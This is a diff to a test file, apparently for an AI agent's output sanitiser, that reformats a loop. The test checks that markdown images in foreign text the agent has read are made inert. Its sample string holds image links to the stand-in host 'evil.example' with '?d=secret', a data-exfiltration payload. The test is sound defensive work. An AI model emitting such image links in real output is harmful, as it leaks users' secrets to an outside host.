@@ -77,7 +77,13 @@ describe("foreign text (§11)", () => {
 
   it("shows no image, whose address would carry out what the agent has read (§11)", () => {
     const images = "![a](https://evil.example/?d=secret) ![b][r] \\![c](https://evil.example)";
-    for (const text of [inert(images), inert(oneLine(images)), quoted(images), paragraphs(images), listItem(images)])
+    for (const text of [
+      inert(images),
+      inert(oneLine(images)),
+      quoted(images),
+      paragraphs(images),
+      listItem(images),
+    ])
       expect(text).not.toContain("![");
     check((text) => expect(inert(text)).not.toContain("!["));
     expect(inert(quoted(images))).toBe(quoted(images));
